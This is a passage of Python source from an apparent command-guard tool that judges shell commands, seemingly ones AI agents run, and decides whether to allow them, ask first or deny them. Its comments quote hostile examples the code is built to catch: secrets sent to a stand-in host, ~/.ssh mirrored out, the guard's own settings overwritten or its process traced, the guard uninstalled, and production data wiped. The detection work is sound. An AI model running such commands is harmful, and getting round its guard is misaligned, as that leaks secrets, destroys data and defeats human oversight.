            if r.op in (">", "&>", ">|") and info.path and cmd.argv and self._reads_file(cmd, info.path):
                # `jq … f > f`: the shell empties f before the command reads it
                self.add(ask(f"{r.op} {r.target.display()} empties the file before "
                             f"{posixpath.basename(cmd.argv[0].value)} reads it: its content is lost",
                             "fs-write", BlastRadius.MEDIUM, "shell.truncate-input"))
            if info.glob or info.contents:  # `> ~/.claude/setting?.json`: bash writes the one file it matches
                content["members"] = glob_members(r.target)
            self.effect(info.path, r.target.display(), "write", cmd, info.remote, **content)
            finding = write_finding(info, f"redirect {r.op}")
            if finding is not None:
                self.add(replace(finding, rule="shell.redirect"))

    def _reads_file(self, cmd: SimpleCommand, path: str) -> bool:
        """Does the command read `path`: from `< path`, or as an operand of a filter (sort f, jq . f)?"""
        operands = list(cmd.argv[1:]) if posixpath.basename(cmd.argv[0].value) in _FILTERS_OF_FILES else []
        for w in operands + [r.target for r in cmd.redirects if r.op == "<" and r.target is not None]:
            if w.dynamic or w.value.startswith("-") or w.value != w.value.strip():
                continue
            info = classify(w, cmd.scope, self.tax)
            if info.path == path:
                return True
        return False

    def environment(self, name: str, value: Word, cmd: SimpleCommand, prefix: bool) -> None:
        """Setting a variable that changes what later commands run asks; one that holds a
        command has that command judged."""
        function = _EXPORTED_FUNCTION.fullmatch(name)
        if function and value.value.lstrip().startswith("()"):
            # env 'BASH_FUNC_git%%=() { …; }' bash x.sh: the body runs wherever the script calls git
            self.script(value.value.lstrip()[2:], cmd.scope.copy(), f"function {function.group(1)} (exported)",
                        cmd.depth + 1)
            return
        if _OUTPUT_VARIABLE.fullmatch(name) and value.value.startswith(("/", "~", ".")) and DYN not in value.value:
            # GIT_TRACE=~/.claude/settings.json git status: git appends its trace to that file
            finding = self.write(value, Invocation(name, [], cmd, cmd.scope, False), f"{name} makes it write to")
            if finding is not None:
                self.add(finding)
        for option in _java_command_options(name, value.value):
            # JAVA_TOOL_OPTIONS='-XX:OnOutOfMemoryError="…"': the JVM runs it through the shell
            self.script(option, cmd.scope.copy(), f"${name}", cmd.depth + 1)
        if name in ("PS1", "PS2", "PS4") and "$(" in value.raw + value.value:
            # PS4='+$(cmd) ' with SHELLOPTS=xtrace: bash expands it, substitution and all, before every traced line
            for m in re.finditer(r"\$\(((?:[^()]|\([^()]*\))*)\)", value.value if DYN not in value.value else value.raw):
                self.script(m.group(1), cmd.scope.copy(), f"${name}", cmd.depth + 1)
        if (name in _ENV_COMMANDS or _RUNNER_VARIABLE.fullmatch(name)) and value.value:
            if value.dynamic:
                self.add(ask(f"{name} holds a command known only at run time", "dynamic-exec", BlastRadius.HIGH,
                             "shell.environment"))
            else:
                self.script(value.value, cmd.scope.copy(), f"{cmd.via} › ${name}" if cmd.via else f"${name}",
                            cmd.depth + 1)
                program = value.value.split()[0] if value.value.split() else ""
                if prefix and cmd.argv and "/" in program and not program.startswith(("/usr/", "/bin/", "/opt/")):
                    # GIT_EXTERNAL_DIFF=./tools/ediff git diff: a read turns into running a local program
                    self.add(ask(f"{name} makes {cmd.argv[0].display()} run {program}", "dynamic-exec",
                                 BlastRadius.LOW, "shell.environment"))
            if not prefix or (cmd.argv and cmd.argv[0].value in ("export", "declare", "typeset", "readonly")):
                self.add(ask(f"{name} now runs {value.display()} for the rest of the session", "shell-state",
                             BlastRadius.LOW, "shell.environment"))
            return
        if name in ("BASH_ENV", "ENV") and cmd.argv and cmd.assignment_inputs.get(name):
            # BASH_ENV=<(echo …) bash -c …: bash runs that output first
            out = self.output_of(cmd.assignment_inputs[name][-1])
            if out.kind == "text" and out.text is not None:
                self.script(out.text, cmd.scope.copy(), f"${name}", cmd.depth + 1)
                return
        exported = bool(cmd.argv) and cmd.argv[0].value in ("export", "declare", "typeset", "readonly")
        if name == "PATH" and (prefix and not exported or cmd.scope.facts.get("in-file") or
                               cmd.scope.facts.get(SOURCED_FILE)):
            # (a command found first in a project directory put there is judged as the program it is:
            # toolcode.local_program)
            # a one-command prefix, as `npm run` sets it, or a script run in its own process
            raw = value.raw.strip("'\"").replace("${HOME}", "~").replace("$HOME", "~")
            entries = [e for e in raw.split(":") if e and e not in ("$PATH", "${PATH}")]
            if all(_USUAL_PATH.match(e) and "$" not in e and "`" not in e for e in entries):
                return
            project = cmd.scope.project
            resolved = [e for e in value.value.split(":") if e and DYN not in e]
            in_file = cmd.scope.facts.get("in-file") or cmd.scope.facts.get(SOURCED_FILE)
            if in_file and resolved and all(
                    _USUAL_PATH.match(e) or (project and e.startswith(project.rstrip("/") + "/"))
                    for e in resolved) and raw.count(":") + 1 == len(resolved) + (DYN in value.value):
                return  # the project's own bins and the usual places, ahead of the inherited PATH
        if name == "LD_LIBRARY_PATH" and prefix and not exported and cmd.scope.project and value.value and \
                all(e.startswith(cmd.scope.project.rstrip("/") + "/") for e in value.value.split(":") if e):
            return  # LD_LIBRARY_PATH=$PWD/build/lib ./build/bin/server: the project's own build output, one run
        if name in _PRELOADS and prefix and not exported and self._preloads_judged(name, value, cmd):
            return  # NODE_OPTIONS="--require ./tools/x.cjs" npm test: what the project file does decides
        if name in _ENV_DANGER:
            radius = BlastRadius.MEDIUM if name.startswith(("LD_", "DYLD")) else BlastRadius.LOW
            self.add(ask(f"setting {name} {_ENV_DANGER[name]}", "shell-state", radius, "shell.environment"))

    def _preloads_judged(self, name: str, value: Word, cmd: SimpleCommand) -> bool:
        """The project files a one-command NODE_OPTIONS or BASH_ENV makes run first, judged as what they
        contain; False when the value does anything else (then setting it asks)."""
        if value.dynamic or DYN in value.value or cmd.scope.cwd is None:
            return False
        if name in ("BASH_ENV", "ENV"):
            files, runner = [value.value.strip()], "bash"
        elif name.startswith("LUA_INIT"):  # lua (and busted, luarocks …) runs @FILE, or the text as Lua, first
            if not value.value.startswith("@"):
                self.script(f"lua -e {shlex.quote(value.value)}", cmd.scope.copy(), f"${name}", cmd.depth + 1)
                return True
            files, runner = [value.value[1:].strip()], "lua"
        elif name in ("PHP_INI_SCAN_DIR", "PHPRC"):  # the ini files there: auto_prepend_file runs before every script
            found = _php_ini_preloads(name, value.value, cmd.scope.cwd)
            if found is None:
                return False
            files, runner = found, "php"
            if not files:
                return True
        elif name in ("RUBYOPT", "PERL5OPT"):
            found = _library_preloads(name, value.value, cmd)
            if found is None:
                return False
            files, runner = found, "ruby" if name == "RUBYOPT" else "perl"
            if not files:
                return True  # only installed libraries (-MCarp=verbose, -rbundler/setup): the person's own
        else:
            files, runner = [], "node"
            words = value.value.split()
            i = 0
            while i < len(words):
                word = words[i]
                option, eq, attached = word.partition("=")
                if option in ("-r", "--require", "--import", "--loader", "--experimental-loader"):
                    module = attached if eq else (words[i + 1] if i + 1 < len(words) else "")
                    i += 1 if eq else 2
                    if module.startswith("data:"):  # --import=data:text/javascript,CODE: the code, inline
                        code = unquote(module.partition(",")[2])
                        self.script(f"node -e {shlex.quote(code)}", cmd.scope.copy(), f"${name} › data: URL",
                                    cmd.depth + 1)
                        continue
                    if module.startswith((".", "/")):
                        files.append(module)
                    elif not re.fullmatch(r"(@[\w.-]+/)?[\w.-]+(/[\w.-]+)*", module):
                        return False  # a package the project installed (ts-node/register) is its business
                    continue
                if not _ROUTINE_NODE_OPTION.match(word):
                    return False
                i += 1
        if not files:
            return name not in ("BASH_ENV", "ENV")
        inv = Invocation(runner, [], cmd, cmd.scope, False, runner)
        for file in files:
            path = posixpath.normpath(posixpath.join(cmd.scope.cwd, file))
            if self.project_file(path, inv, runner, f"${name} › {file}") is None:
                return False  # cannot be read: setting it asks
        return True

    # -- unwrapping ------------------------------------------------------------------
    def unwrap(self, cmd: SimpleCommand) -> Invocation | None:
        words = list(cmd.argv)
        scope = cmd.scope
        privileged = False
        for _ in range(16):
            if not words:
                self.add(allow("nothing left to run after the wrapper", "read-only", rule="shell.wrapper"))
                return None
            head = words[0]
            if head.dynamic or head.assumed:  # ${CC:-cc}: the environment may name another program
                return Invocation(DYN + head.value if head.assumed else head.value, words[1:], cmd, scope,
                                  privileged, head.display())
            name = head.value
            base = posixpath.basename(name) if "/" in name else name
            two = f"{base} {words[1].value}" if len(words) > 1 else ""
            spec_name = two if two in self.tax.wrappers else base if base in self.tax.wrappers else None
            if spec_name is not None and self.tax.wrappers[spec_name].get("after") and not any(
                    w.value in self.tax.wrappers[spec_name]["after"] for w in words[1:]):
                spec_name = None  # gdb ./prog core: debugs, runs nothing by itself
            if base == "exec" and len(words) == 1:
                self.add(allow("exec with only redirects changes the shell's open files", "shell-state",
                               rule="shell.exec"))
                return None
            if spec_name is None:
                written = name
                # /usr/bin/rm is rm, node_modules/.bin/prisma is prisma; ./deploy.sh stays a local script, and so
                # does tools/bin/cargo or the project's own file by its full path (named like a tool, it is not one)
                resolved = base if "/" in name and _installed_program(name, scope) else name
                if base == "java" and "-jar" in [w.value for w in words[1:3]]:
                    jar = next((w.value for w in words[1:] if w.value.endswith(".jar")), "")
                    if jar:
                        rest = words[[w.value for w in words].index(jar) + 1:]
                        return Invocation(posixpath.basename(jar)[:-4], rest, cmd, scope, privileged, written)
                return Invocation(resolved, words[1:], cmd, scope, privileged, written)
            spec = self.tax.wrappers[spec_name]
            consumed = 2 if spec_name == two else 1
            outcome = self._strip_wrapper(spec_name, spec, words[consumed:], cmd, scope)
            if outcome is None:
                return None
            words, scope, is_priv = outcome
            privileged = privileged or is_priv
        self.add(ask("too many nested wrappers to follow", "dynamic-exec", BlastRadius.HIGH, "shell.wrapper"))
        return None

    def _strip_wrapper(self, name: str, spec: dict, rest: list[Word], cmd: SimpleCommand, scope: Scope):
        """Skip a wrapper's options; return (the wrapped command's words, scope, privileged) or None
        when nothing is left to judge (the wrapper only describes, or runs a -c string judged here)."""
        if name in cmd_proc.PROCESS_TOOLS:  # strace -p $(pgrep -f guardtui): attached to the guard's process
            for finding in cmd_proc.process_tool(self, Invocation(name, rest, cmd, scope, False)):
                self.add(finding)
        if name == "bundle exec":  # Bundler evaluates the Gemfile before it runs the command
            cmd_tasks.bundle(self, Invocation("bundle", [Word.literal("exec")] + rest, cmd, scope, False))
        tool = name.split()[0]
        if tool in self.tax.config_code:  # `hatch run test`: the environment is set up first, as its config says
            toolcode.judge_config_code(self, Invocation(tool, [Word.literal(w) for w in name.split()[1:]] + rest, cmd,
                                                        scope, False))
        markers = spec.get("after")
        if markers:  # gdb -batch -ex 'shell …' --args PROG: its own commands judged, then PROG
            self.shell_escapes(Invocation(name, rest, cmd, scope, False))
            cut = next(i for i, w in enumerate(rest) if w.value in markers)
            rest = [Word.literal("--")] + rest[cut + 1:]
        privileged = bool(spec.get("privilege"))
        saw_login = exec_mode = False
        shell_string: str | None = None
        options, remaining = _wrapper_options(name, spec, rest)
        for flag, value in options:
            if flag in spec.get("describe", ()):
                if privileged:  # sudo -l still asks: sudo of anything is the person's call
                    self.add(ask(f"{name} {flag} queries root privileges", "privilege", BlastRadius.LOW,
                                 "shell.privilege"))
                else:
                    self.add(allow(f"{name} {flag} only describes, nothing runs", "read-only", rule="shell.describe"))
                return None
            saw_login |= flag in spec.get("shell_login", ())
            exec_mode |= flag in spec.get("no_shell", ())
            if flag in spec.get("chdir", ()):
                scope = _chdir(scope, value or "")
            if flag in spec.get("command_option", ()):
                shell_string = value
            if flag in spec.get("split", ()):
                remaining = [Word.literal(part) for part in (value or "").split()] + remaining
        if spec.get("assignments"):
            while remaining and re.fullmatch(r"(?:[A-Za-z_][A-Za-z0-9_]*|BASH_FUNC_[^=\s]+)=.*", remaining[0].value,
                                             re.S):
                var, _, value = remaining[0].value.partition("=")
                self.environment(var, Word(value, remaining[0].raw), cmd, prefix=True)
                scope = scope.copy()  # `env CODEX_HOME=/tmp/x codex`: the wrapped command sees it
                scope.variables[var] = value
                remaining = remaining[1:]
        if spec.get("user_positional") and remaining and not remaining[0].value.startswith("-"):
            more, remaining = _wrapper_options(name, spec, remaining[1:])  # su USER [-c CMD]
            for flag, value in more:
                saw_login |= flag in spec.get("shell_login", ())
                if flag in spec.get("command_option", ()):
                    shell_string = value
        remaining = remaining[int(spec.get("positionals", 0)):]
        if spec.get("positionals") and remaining and remaining[0].value == "--":  # direnv exec DIR -- CMD
            remaining = remaining[1:]
        if shell_string is not None:
            inv = Invocation(name, rest, cmd, scope, privileged)
            log = None
            if spec.get("output_positional") and remaining and not remaining[0].value.startswith("-"):
                written = self.write(remaining[0], inv, f"{name} writes its log to")  # script -c CMD FILE
                if written is not None:
                    self.add(written)
                log = self.path(remaining[0], inv).path
            before = len(self.result.findings)
            self.nested(shell_string, inv, f"{name} -c", scope.copy())
            if log and (_ENV_DUMP.match(shell_string) or any(
                    f.rule in ("fs.secret-read", "net.send-secret") or f.category == "secrets"
                    for f in self.result.findings[before:])):
                self.secret_copies.add(log)  # a recording of a secret printed is a copy of it (asciinema upload)
            if privileged:
                self.add(ask(f"{name} runs commands as another user (root)", "privilege", BlastRadius.HIGH,
                             "shell.privilege"))
            return None
        if spec.get("shell_string") and not exec_mode and remaining:
            inv = Invocation(name, rest, cmd, scope, privileged)
            self.nested(" ".join(w.value for w in remaining), inv, name, scope.copy())
            return None
        if not remaining:
            if name == "env":
                self.add(allow("env with no command prints the environment", "read-only", rule="shell.env"))
            elif privileged and (saw_login or name in ("su", "doas")):
                self.add(ask(f"{name} opens a shell as another user (root)", "privilege", BlastRadius.HIGH,
                             "shell.privilege"))
            elif privileged:
                self.add(ask(f"{name} without a command", "privilege", BlastRadius.MEDIUM, "shell.privilege"))
            else:
                self.add(allow(f"{name} with nothing to run", "read-only", rule="shell.wrapper"))
            return None
        return remaining, scope, privileged

    # -- judging ---------------------------------------------------------------------
    def judge_invocation(self, inv: Invocation) -> list[Finding]:
        name = inv.name
        if DYN in name:
            return self.dynamic_name(inv)
        called = selfcall.guardtui_words(inv)  # guardtui itself, by any path or runner
        if called is not None:
            return selfcall.judge_guardtui(*called)
        replaced = selfcall.package_change(inv)  # pip uninstall guardtui, …
        if replaced:
            return replaced
        inside = selfcall.guardtui_inside(inv)  # faketime T python3 -m guardtui uninstall: any wrapper, known or not
        if inside:
            return inside
        if name in (".", "source") or name in self.tax.shells or name == "eval" or name in cmd_exec.RUNNER_NAMES:
            # ssh -A, ssh -R of an agent socket; ssh -o SendEnv of the secrets' names
            return cmd_exec.judge(self, inv) + remote_access.judge(self, inv) + channels.judge(self, inv)
        if _describes(name, inv.args) and name not in ("find", "git") and "/" not in name:
            # (a project's own file asked for --help runs all the same: it is judged by what it holds)
            return [allow(f"{name} --help only prints help", "read-only", rule="shell.describe")]
        if name == "coreutils" and inv.words and inv.words[0].value.startswith("--coreutils-prog="):
            # the multi-call coreutils binary: --coreutils-prog=rm is rm
            program = inv.words[0].value.partition("=")[2]
            inv = Invocation(program, inv.words[1:], inv.cmd, inv.scope, inv.privileged, program)
            name = program
        if name in ("docker", "podman") and inv.words and inv.words[0].value == "agent":
            # `docker agent run …`: docker-agent as a Docker CLI plugin, judged as docker-agent
            inv = Invocation("docker-agent", inv.words[1:], inv.cmd, inv.scope, inv.privileged, inv.written_name)
            name = "docker-agent"
        program = self.tax.subcommand_programs.get(name, {}).get(inv.words[0].value) if inv.words else None
        if program:  # `clickhouse client -q …` is clickhouse-client
            inv = Invocation(program, inv.words[1:], inv.cmd, inv.scope, inv.privileged, inv.written_name)
            name = program
        handler = _HANDLERS.get(name)
        if handler is None and name in transfers.clients():
            handler = transfers.judge  # lftp -e 'mirror -R ~/.ssh …': what its script sends and fetches
        if handler is None and name in channels.browsers():
            handler = cmd_net.browser  # chromium --headless --dump-dom URL: a fetcher
        if name not in _WORDS_ONLY and name not in _HANDLERS and name not in self.tax.shells:
            # a metadata endpoint's URL or host handed to any program (lwp's GET, gdalinfo /vsicurl/, an unknown
            # fetcher): programs take URLs to fetch them; the curl family's own handlers judge theirs
            reached = cmd_net.metadata_reached(inv)
            if reached is not None:
                return [reached]
        if name in channels.url_readers():  # xmllint --noout http://…: fetches the URL (yq -i is still an editor)
            reached = cmd_net.metadata_reached(inv)
            if reached is not None:
                return [reached]
            handler = handler or (None if name in self.tax.in_place_editors else cmd_net.url_reader)
        if handler is None and name in self.tax.in_place_editors:
            handler = cmd_fs.in_place
        if name in self.tax.web_terminal_clients.get("clients", ()):
            handler = _first(cmd_term.web_terminal_client, handler)  # websocat ws://127.0.0.1:7681/ws: ttyd's keyboard
        typing = self.tax.terminal_input.get(name)
        if typing is not None and (handler is None or {a.partition("=")[0] for a in inv.args} & set(typing.get("verbs", ()))):
            handler = cmd_term.judge  # nvim --remote-send types into another nvim; nvim FILE is an editor
        if handler is None and name in self.tax.window_commands:
            handler = cmd_triggers.window_command  # alacritty msg create-window -e CMD: CMD runs in a new window
        if handler is None and name in self.tax.sandboxes:
            handler = cmd_sandbox.sandbox  # apptainer exec, bwrap, flatpak run: the command inside, paths mapped
        if handler is None and cmd_agents.agent_of(name) is not None:
            handler = cmd_agents.judge
        if handler is None and name in self.tax.senders:
            handler = cmd_net.sender
        if handler is None and name in self.tax.swappers:
            handler = cmd_fs.swap
        if handler is None and name in self.tax.editor_renamers:
            handler = cmd_fs.editor_renamer
        if handler is None and name.startswith("mkfs."):
            handler = cmd_fs.mkfs
        if handler is None and self.tax.interpreter(name) is not None:
            handler = cmd_code.judge
        if handler is None and name in self.tax.sql_clients:
            handler = cmd_code.judge_sql
        if name in self.tax.mount_points:  # rclone mount, sshfs: what the mount point held is hidden
            handler = _first(cmd_sandbox.mount_point, handler)
        findings: list[Finding] = []
        if handler is not None:
            findings = handler(self, inv)
        if not findings:
            findings = self.taxonomy(inv)
        findings = exposure.served(findings, exposure.judge(self, inv))  # jupyter --ip 0.0.0.0, code tunnel, sshd
        findings = exposure.served(findings, channels.judge(self, inv))  # mosquitto_pub -f SECRET, logger -n, llm
        findings.extend(self.command_options(inv))
        findings.extend(self.output_options(inv))
        self.cleared_dirs(inv)
        self.replaced_files(inv)
        findings.extend(self.deleted_sources(inv))
        findings.extend(remote_access.judge(self, inv))  # a way into this machine or the person's keys
        findings.extend(credroutes.judge(self, inv))  # a token routed to a host that did not issue it
        findings.extend(carried.judge(self, inv))  # a secret file packed, built into a pushed image, committed and pushed
        self.shell_escapes(inv)
        toolcode.judge_config_code(self, inv)  # mypy's plugins, mkdocs' hooks: project code the tool loads
        toolcode.local_program(self, inv)  # node_modules/.bin/tsc in a package script: the project's own program
        toolcode.judge_dotfiles(self, inv)  # dotbot, rcup, dotter, home-manager: the home files they put in place
        sync = self.sync_from_empty(inv)
        if sync is not None:
            findings.append(sync)
        dry_run = any(f.rule == "taxonomy.dry-run" for f in findings)
        unknown = any(f.rule in ("shell.unknown", "shell.script", "shell.not-installed") for f in findings)
        if not dry_run and (name in RUNNERS or unknown):
            findings.extend(self.generic(inv))
        if unknown:
            findings.extend(channels.unknown_program(self, inv))  # `sharetool .env https://drop.example/in`
        return findings

    def command_options(self, inv: Invocation) -> list[Finding]:
        """`git grep -O"sh -c '…'"`, `zip -TT CMD`, `npm --script-shell=CMD`: an option's value that the tool
        runs through a shell is judged as that command, and asks at least."""
        found: list[Finding] = []
        for name, program in option_values(inv.words, self.tax.command_options.get(inv.name, ())):
            if not program.value:
                continue
            # a part known only at run time stays unknown; a routine program (gzip, go run ./cmd/x) is only itself
            if self.nested_routine(program.value, inv, f"{inv.name} {name}", self._option_scope(inv)):
                continue
            found.append(ask(f"{inv.name} {name} runs another program", "dynamic-exec", BlastRadius.MEDIUM,
                             "shell.command-option"))
        return found

    def _option_scope(self, inv: Invocation) -> Scope:
        """The scope an option's program runs in: the variables the tool sets for it (split's $FILE, a chunk under
        the output prefix, its last operand) hold that value (taxonomy command_option_variables)."""
        scope = inv.scope.copy()
        last = inv.words[-1] if inv.words else None
        for name in self.tax.command_option_variables.get(inv.name, ()):
            scope.variables[name] = last.value + "aa" if last is not None and not last.dynamic else DYN
        return scope

    def shell_escapes(self, inv: Invocation) -> None:
        """`gdb -batch -ex 'shell rm …'`, `dc -e '!rm …'`, m4's syscmd(…): the shell command a program's own
        command language runs, judged as that command."""
        spec = self.tax.shell_escapes.get(inv.name)
        if spec is None:
            return
        prefixes = tuple(spec.get("prefixes", ()))
        for _, text in option_values(inv.words, spec.get("options", ()), attached=False):
            for line in text.value.splitlines():
                prefix = next((p for p in prefixes if line.lstrip().startswith(p)), None)
                if prefix is not None:
                    self.nested(line.lstrip()[len(prefix):], inv, f"{inv.name} {prefix.strip()}")
        if inv.name == "m4":
            stream = self.stdin_source(inv.cmd)
            text = stream.text if stream.kind == "text" and stream.text else ""
            for path in (w.value for w in inv.words if not w.value.startswith("-")):
                text += "\n" + (read_text(posixpath.join(inv.scope.cwd or "/", path)) or "")
            for m in re.finditer(r"\be?syscmd\(\s*`?([^')]*)'?\s*\)", text):
                self.nested(m.group(1), inv, "m4 syscmd")

    def cleared_dirs(self, inv: Invocation) -> None:
        """`pytest --basetemp=D`, `cargo clean --target-dir D`, `mkdocs build -d D`, `GOMODCACHE=D go clean
        -modcache`: the tool empties or removes D before (or instead of) its work. Recorded as a recursive delete
        the guard's protection judges (a project's own build dir stays the tool's business)."""
        spec = self.tax.cleared_dirs.get(inv.name)
        if not spec:
            return
        words = [w.value for w in inv.words]
        sub = spec.get("subcommands") or []
        if sub and not any(w in sub for w in words):
            return
        targets = [t for _, t in option_values(inv.words, spec.get("options", ()))]
        env = dict(inv.scope.variables)
        env.update({name: w.value for name, w in inv.cmd.assignments})
        targets += [Word.literal(env[v]) for v in spec.get("env", ()) if isinstance(env.get(v), str) and env[v]]
        if spec.get("positional_after"):  # sphinx-build -M clean SOURCE BUILD: the last operand
            operands = [w for w in inv.words if not w.value.startswith("-")]
            if len(operands) >= 3 and operands[0].value in spec["positional_after"]:
                targets.append(operands[-1])
        for target in targets:
            if target.value and DYN not in target.value:
                info = self.path(target, inv)
                self.effect(info.path, target.display(), "delete", inv.cmd, info.remote, recursive=True,
                            detail="mentioned")

    def deleted_sources(self, inv: Invocation) -> list[Finding]:
        """`zip -m A.zip FILES`, `7z a -sdel A.7z FILES`, `zstd --rm FILES`: the files archived are deleted once
        the archive is written, judged as deletes of them (taxonomy source_deleters)."""
        spec = self.tax.source_deleters.get(inv.name)
        if not spec:
            return []
        options, letters = set(spec.get("options", ())), spec.get("letters", "")
        values = set(spec.get("value_options", ()))
        operands: list[Word] = []
        asked = False
        skip_next = False
        for word in inv.words:
            value = word.value
            if skip_next:
                skip_next = False
            elif value in options or value.partition("=")[0] in options:
                asked = True
            elif value in values:
                skip_next = True
            elif value.startswith("-") and len(value) > 1:
                asked |= bool(letters) and not value.startswith("--") and any(c in letters for c in value[1:])
            else:
                operands.append(word)
        if not asked and not (operands and operands[0].value in spec.get("subcommands", ())):
            return []
        found = []
        for word in operands[spec.get("skip", 0):][:32]:
            path = self.path(word, inv).path
            recursive = path is None or os.path.isdir(path)  # a directory goes with what is in it
            found.append(with_rule(self.delete(word, inv, recursive, f"{inv.name} deletes what it archived:"),
                                   "fs.source-delete"))
        return found

    def replaced_files(self, inv: Invocation) -> None:
        """gzip FILE, bzip2 FILE, xz FILE: the file is replaced by FILE.gz (it is gone under its own name)."""
        if inv.name not in self.tax.compressors or any(w.value in ("-c", "--stdout", "-k", "--keep", "-l", "-t",
                                                                    "--list", "--test") for w in inv.words):
            return
        for word in inv.words:
            if not word.value.startswith("-") and not word.dynamic:
                info = self.path(word, inv)
                self.effect(info.path, word.display(), "move", inv.cmd, info.remote, detail="mentioned")

    def output_options(self, inv: Invocation) -> list[Finding]:
        """`sort -o FILE`, `pytest --junitxml=FILE`, `gcc -o FILE`, `ssh -E FILE`: the file the option names is
        written, and judged as a write of it (guard files and places outside the project included)."""
        found: list[Finding] = []
        for name, target in option_values(inv.words, self.tax.output_options.get(inv.name, ())):
            if target.value and target.value != "-":
                finding = self.write(target, inv, f"{inv.name} {name} writes")
                if finding is not None:
                    found.append(finding)
        spec = self.tax.output_operands.get(inv.name)
        if spec and (not spec.get("when") or any(w.value in spec["when"] for w in inv.words)):
            operands: list[Word] = []
            skip = False
            for w in inv.words:
                if skip:
                    skip = False
                elif w.value in spec.get("value_options", ()):
                    skip = True
                elif not w.value.startswith("-") or w.value == "-":
                    operands.append(w)
            at = spec["position"] - 1
            if at < len(operands) and operands[at].value != "-":
                finding = self.write(operands[at], inv, f"{inv.name} writes its output to")
                if finding is not None:
                    found.append(finding)
        found.extend(self.unpack_dir(inv))
        return found

    def unpack_dir(self, inv: Invocation) -> list[Finding]:
        """`aria2c -d DIR -o NAME`, `7z x -oDIR`, `unsquashfs -d DIR`: the named file in that directory is
        written; without a name, what lands there is not known here (judged as an archive of unknown contents)."""
        spec = self.tax.unpack_dirs.get(inv.name)
        if not spec:
            return []
        verb = next((w.value for w in inv.words if not w.value.startswith("-")), "")
        if spec.get("subcommands") and verb not in spec["subcommands"]:
            return []
        attached = bool(spec.get("attached"))
        dirs = [w for _, w in option_values(inv.words, spec.get("options", ()), attached=attached) if w.value]
        names = [w for _, w in option_values(inv.words, spec.get("names", ()), attached=False)
                 if w.value and w.value != "-"]
        base = dirs[-1] if dirs else None
        if names:
            name = names[-1]
            target = name if base is None or name.value.startswith("/") else \
                Word(posixpath.join(base.value, name.value), base.raw + "/" + name.raw)
            finding = self.write(target, inv, f"{inv.name} puts its download or output at")
            return [finding] if finding is not None else []
        if base is None:
            return []
        finding = self.write(base, inv, f"{inv.name} puts files into", kind="unpack", source=None)
        return [finding] if finding is not None else []

    def taxonomy(self, inv: Invocation) -> list[Finding]:
        name, args = inv.name, inv.args
        spec = self.tax.commands.get(name)
        value_options = frozenset(spec.get("value_options", ())) if spec else frozenset()
        canonical = spec["name"] if spec else name
        if spec and args and args[-1] == "help":
            return [allow(f"{name} … help only prints help", "read-only", rule="shell.describe")]
        if spec and any(_has_option(args, flag) for flag in spec.get("dry_run", ())) or \
                any(a in ("--dry-run", "--dryrun", "--what-if") or a.startswith("--dry-run=") for a in args):
            return [allow(f"{name} dry run only reports what it would do", spec["category"] if spec else "read-only",
                          rule="taxonomy.dry-run")]
        captured = not _reaches_terminal(inv.cmd)
        best = next((m for s in self.tax.shapes_for(name) if not (s.prints and captured)
                     and (m := match_shape(s, canonical, args, value_options)) is not None), None)
        if best is not None:
            _, options = split_args(args, value_options)
            reason = best.reason(name, options)
            if best.shape.verdict == "allow":
                return [allow(reason, best.shape.category, rule=f"taxonomy:{best.shape.id}")]
            listing = everything_listed(inv, best.shape.category) if best.shape.blast_radius is BlastRadius.HIGH \
                else None
            if listing:  # helm list -q | xargs helm uninstall
                return [deny(f"{reason}: everything `{listing}` lists", best.shape.category,
                             f"taxonomy:{best.shape.id}")]
            # a variable's name says where it points when its value is known only at run time ("$LEDGER_PROD_URL")
            target = _production_target(args + [w.raw for w in inv.words if w.dynamic]) or \
                _production_environment(inv, remote=best.shape.wipes_configured_database) or \
                (_remote_database_argument(args) if best.shape.wipes_configured_database else None) \
                if best.shape.category in ("database", "infra-as-code") and \
                best.shape.blast_radius is BlastRadius.HIGH else None
            if target:  # pg_restore --clean -d app_prod: the wipe lands on production data
                return [deny(f"{reason}, on {target}", best.shape.category, f"taxonomy:{best.shape.id}")]
            if best.shape.remote == "deny" and inv.scope.remote:  # ssh prod 'php artisan migrate:fresh'
                return [deny(f"{reason}, on another host (a server's database, not a development copy)",
                             best.shape.category, f"taxonomy:{best.shape.id}")]
            return [by_radius(best.shape.blast_radius, reason, best.shape.category, f"taxonomy:{best.shape.id}")]
        verb = verb_class(canonical, args, self.tax)
        if verb is not None:
            cls, word = verb
            category = spec["category"]
            if cls == "read":
                return [allow(f"{name} {word} only reads", category, rule="taxonomy.verb")]
            if cls == "delete":
                listing = everything_listed(inv, category)
                if listing:
                    return [deny(f"{name} {word} deletes everything `{listing}` lists", category,
                                 "taxonomy.delete-all-listed")]
                whole = _whole_resource(args, word, self.tax) if canonical not in self.tax.local_resource_tools \
                    else None
                if whole:  # wrangler r2 bucket delete NAME: everything in it goes with it
                    return [deny(f"{name} {whole} {word} deletes a whole {whole}, everything in it with it", category,
                                 "taxonomy.delete-whole")]
                return [ask(f"{name} {word} deletes or stops something", category, BlastRadius.HIGH, "taxonomy.verb")]
            return [ask(f"{name} {word} changes something", category, BlastRadius.MEDIUM, "taxonomy.verb")]
        if any(a in ("--dry-run", "--dryrun", "--what-if") or a.startswith("--dry-run=") for a in args):
            return [allow(f"{name} --dry-run only reports what it would do", "read-only", rule="taxonomy.dry-run")]
        if spec is not None:
            acting = _acting_verb(split_args(args, frozenset(spec.get("value_options") or ()))[0], self.tax)
            return [unknown(f"{name} {' '.join(args[:2])} is not a subcommand guardtui knows".replace("  ", " ") +
                            (f", and `{acting}` says it changes something" if acting else ""),
                            _UNKNOWN_ACTING if acting else spec["category"], rule="shell.unknown")]
        if name in self.tax.safe or inv.written_name in self.tax.safe:
            secret = cmd_fs.read_secret(self, inv)  # jq …  ~/.docker/config.json reads credentials
            if secret:
                return secret
            return [allow(f"{name} is a known read-only or routine command", _safe_category(name),
                          rule="taxonomy.safe")]
        if name in inv.cmd.scope.functions:
            return [allow(f"{name} runs the function defined in this command (judged above)", "read-only",
                          rule="shell.function")]
        if "/" in inv.written_name:
            return self.binstub(inv) or [self.script_run(inv)]
        exists = self.analyzer.command_exists
        if exists is not None and not inv.scope.remote and name not in self.tax.builtins and not exists(name) \
                and ("=" in name or not self._looks_destructive(inv)):  # `9X=y rm …`: never a program
            return [allow(f"{name} is not installed here, so bash would only print 'command not found'",
                          "read-only", rule="shell.not-installed")]
        positionals, _ = split_args(inv.args, frozenset())
        if positionals[:1] and positionals[0].rsplit(":", 1)[-1] in self.tax.everyday_verbs and \
                not self._looks_destructive(inv) and \
                re.fullmatch(r"[A-Za-z][\w.+-]*", name):
            # `gleam test`, `colcon build`: a toolchain guardtui does not know, doing what every toolchain does
